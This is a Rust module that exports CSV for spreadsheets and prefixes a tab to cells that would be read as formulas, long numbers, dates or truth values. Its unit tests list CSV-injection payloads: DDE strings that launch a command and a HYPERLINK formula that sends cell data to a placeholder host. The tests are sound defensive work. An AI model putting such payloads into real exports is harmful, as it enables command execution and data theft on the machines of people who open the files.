//! CSV as spreadsheets open it: UTF-8 with a byte order mark, lines that end in CRLF, quotes around everything
//! that is no number.
//!
//! A spreadsheet that opens CSV guesses what each cell is: it calculates what begins like a formula, rounds
//! long numbers to fifteen digits and shows them as 1.23E+17, takes `1-2` for a day, and drops zeros in front.
//! CSV cannot say that a cell is text, so cells that would be taken for something else are guarded by one tab
//! in front:
//!
//! - *Formulas, in every column*: a text whose first character, blanks and control characters aside, is `=`,
//!   `+`, `-`, `@` or one of their full-width forms; and a text that begins with a control character, tab, CR
//!   and LF included `[public: the list of OWASP's page on CSV injection]`.
//! - *Ids and phone numbers*: whatever is not surely text to a spreadsheet ([`surely_text`]).
//! - *Words of people*: what is made of digits and the signs of numbers and dates alone, and `TRUE` and `FALSE`.
//! - Never a plain number of at most eleven digits in a column of words: `-30` and `+1.5` stay numbers.
//!
//! Taking one tab off gives the text back, whatever it was ([`unguarded`]); the importer takes off all blanks.
//!
//! Not an apostrophe: Excel shows it, and drops it when the cell is edited and the file saved, which leaves a
//! live formula `[public: OWASP/www-community issue 517]`; the importer leaves it in front of a complaint's
//! words. A tab stays through that, and is what OWASP's page now has for Excel, inside quotes: without them
//! a program that also splits at tabs would begin a cell behind it. Not `="…"`: it is a formula itself, is
//! refused or stripped by filters for such, is limited to 255 characters, and nobody but Excel reads it back.

use std::borrow::Cow;
use std::io::{self, Write};

use tousu_wire::Lang;

use super::columns::{COLUMNS, Cell, Kind};
use super::{Error, HashingWriter, Row, Summary};

/// CSV under way.
pub struct Csv {
    out: csv::Writer<HashingWriter>,
    lang: Lang,
    rows: u64,
}

/// What stands in front of a cell that would be taken for something else.
const GUARD: char = '\t';
const BYTE_ORDER_MARK: &str = "\u{feff}";
/// Excel shows more digits than these as 1.23E+17, and rounds behind the fifteenth.
const PLAIN_DIGITS: usize = 11;

impl Csv {
    /// Writes the mark and the headings.
    pub(super) fn new(lang: Lang, mut out: HashingWriter) -> Result<Self, Error> {
        out.write_all(BYTE_ORDER_MARK.as_bytes())?;
        let mut out = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::NonNumeric)
            .buffer_capacity(1 << 16)
            .from_writer(out);
        out.write_record(COLUMNS.iter().map(|column| column.heading(lang))).map_err(told)?;
        Ok(Csv { out, lang, rows: 0 })
    }

    pub(super) fn push(&mut self, row: &Row<'_>) -> Result<(), Error> {
        for column in COLUMNS {
            let cell = match column.cell(row, self.lang) {
                Cell::Text(text) => self.out.write_field(guarded(&text, column.kind).as_bytes()),
                Cell::Moment(Some(time)) => self.out.write_field(time.to_string()),
                Cell::Moment(None) => self.out.write_field(""),
                Cell::Number(number) => {
                    self.out.write_field(guarded(&number.to_string(), Kind::Text).as_bytes())
                }
            };
            cell.map_err(told)?;
        }
        self.out.write_record(None::<&[u8]>).map_err(told)?;
        self.rows += 1;
        Ok(())
    }

    pub(super) fn finish(self) -> Result<Summary, Error> {
        let out = self.out.into_inner().map_err(|error| error.into_error())?;
        let (bytes, sha256) = out.finish()?;
        Ok(Summary { rows: self.rows, cut: 0, bytes, sha256 })
    }
}

/// What went wrong, as the file said it.
fn told(error: csv::Error) -> io::Error {
    match error.into_kind() {
        csv::ErrorKind::Io(error) => error,
        // Rows of unequal length, which ours are not.
        kind => io::Error::other(format!("{kind:?}")),
    }
}

/// The text as a cell of CSV, before quoting: guarded if a spreadsheet would take it for something else.
pub fn guarded(text: &str, kind: Kind) -> Cow<'_, str> {
    match would_be_taken_for_something_else(text, kind) {
        true => Cow::Owned(format!("{GUARD}{text}")),
        false => Cow::Borrowed(text),
    }
}

/// The text of a cell that [`guarded`] made.
pub fn unguarded(cell: &str) -> &str {
    cell.strip_prefix(GUARD).unwrap_or(cell)
}

fn would_be_taken_for_something_else(text: &str, kind: Kind) -> bool {
    // A text's own tab is guarded as well, so that the first tab of a cell is never the text's.
    if text.starts_with(char::is_control) {
        return true;
    }
    let is_id = matches!(kind, Kind::Id | Kind::Phone);
    let blank = |character: char| character.is_whitespace() || character.is_control() || unseen(character);
    match text.trim_start_matches(blank).chars().next() {
        None => false,
        Some('=' | '@' | '＝' | '＋' | '－' | '＠') => true,
        Some('+' | '-') => is_id || !is_plain_number(text),
        Some(_) if is_id => !surely_text(text),
        Some(_) => is_number_or_date(text) && !is_plain_number(text) || is_truth(text),
    }
}

/// Characters that take no room, behind which a program may look for the first that does.
fn unseen(character: char) -> bool {
    matches!(character, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

/// Whether no spreadsheet takes the id for a number, a day or a truth value: it holds `_` or `*`, or begins with
/// one letter and a digit. `c_6621e41fa5e18_dA0idHLY`, `E20240417180801783546V2` and `188****1474` are such;
/// `1E5`, `MAR1` and `TRUE` are not.
pub fn surely_text(id: &str) -> bool {
    let mut characters = id.chars();
    let letter_and_digit = characters.next().is_some_and(|first| first.is_ascii_alphabetic())
        && characters.next().is_some_and(|second| second.is_ascii_digit());
    letter_and_digit || id.contains(['_', '*'])
}

/// Whether the text is a number that a spreadsheet shows as it is, a plus aside: a sign, up to eleven digits
/// without zeros in front, a fraction.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    let all_digits = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    let zeros = whole.len() > 1 && whole.starts_with('0');
    all_digits(whole) && all_digits(fraction) && !zeros && digits.len() <= PLAIN_DIGITS
}

/// Whether a spreadsheet takes the text for a truth value, of which it keeps neither case nor letters.
fn is_truth(text: &str) -> bool {
    ["true", "false"].iter().any(|truth| text.trim().eq_ignore_ascii_case(truth))
}

/// Whether the text is made of digits and of what stands between them in numbers, sums of money, days and times.
fn is_number_or_date(text: &str) -> bool {
    let digit = |character: char| matches!(character, '0'..='9' | '０'..='９');
    let between = |character: char| " .,:/+-%eE()$¥￥　．，：／＋－％年月日号时点分秒".contains(character);
    text.contains(digit) && text.chars().all(|character| digit(character) || between(character))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const KINDS: [Kind; 4] = [Kind::Id, Kind::Phone, Kind::Code, Kind::Text];

    #[test]
    fn formulas_are_guarded_in_every_column() {
        let formulas = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x.example/?\"&A1,\"点\")",
            "+1+1",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "-2+3+cmd|' /C calc'!D2",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\0=1+1",
            "  =1+1",
            "\u{feff}=1+1",
            "\u{200b}@x",
            "\u{3000}＝1",
            "＝1+1",
            "＋1",
            "－1",
            "＠x",
            "-30%",
            "+8618812341474567",
            "-",
            "\t",
            "-0001",
        ];
        for formula in formulas {
            for kind in KINDS {
                assert_eq!(guarded(formula, kind), format!("\t{formula}"), "{formula:?} {kind:?}");
            }
        }
    }

    #[test]
    fn plain_numbers_stay_numbers_among_words() {
        for number in ["-30", "+1.5", "0", "-0.25", "72", "18812341474"] {
            assert_eq!(guarded(number, Kind::Text), number);
            assert_eq!(guarded(number, Kind::Id), format!("\t{number}"));
            assert_eq!(guarded(number, Kind::Phone), format!("\t{number}"));
        }
    }

    #[test]
    fn what_would_be_rewritten_is_guarded() {
        let rewritten =
            ["123456789012345678", "007", "1E5", "1-2", "3/4", "10:30", "１２", "3月4日", "1,000"];
        for text in rewritten {
            for kind in KINDS {
                assert_eq!(guarded(text, kind), format!("\t{text}"), "{text} {kind:?}");
            }
        }
        for id in ["TRUE", "MAR1", "SEPT2", "'1", "订单", "1 2"] {
            assert_eq!(guarded(id, Kind::Id), format!("\t{id}"));
        }
        let as_they_are = [
            "",
            "c_6621e41fa5e18_dA0idHLY",
            "E20240417180801783546V2",
            "o_1710921515_65fa972b227f7_509789V2",
        ];
        for id in as_they_are {
            assert_eq!(guarded(id, Kind::Id), id);
        }
        for phone in ["188****1474", "010-****5678"] {
            assert_eq!(guarded(phone, Kind::Phone), phone);
        }
        assert_eq!(guarded("+86*******1474", Kind::Phone), "\t+86*******1474");
        for words in ["要退款", "3天没人处理", "'tis", "a=1", "订单 20240417180801783546 未退"] {
            assert_eq!(guarded(words, Kind::Text), words);
        }
    }

    proptest! {
        #[test]
        fn the_guard_comes_off(
            text in "[\\t\\r\\n '=+\\-@＝＋－＠0-9.eE年\u{feff}\u{200b}]{0,6}(\\PC|[\\x00-\\x7f]){0,12}",
            at in 0usize..4,
        ) {
            let cell = guarded(&text, KINDS[at]);
            prop_assert_eq!(unguarded(&cell), text.as_str());
            // What no guard stands before begins like a formula only if it is a number.
            let first = cell.chars().find(|c| !c.is_whitespace() && !c.is_control());
            if !cell.starts_with('\t') && matches!(first, Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠')) {
                prop_assert!(cell.parse::<f64>().is_ok(), "{:?}", cell);
                prop_assert!(!matches!(KINDS[at], Kind::Id | Kind::Phone));
            }
        }
    }
}
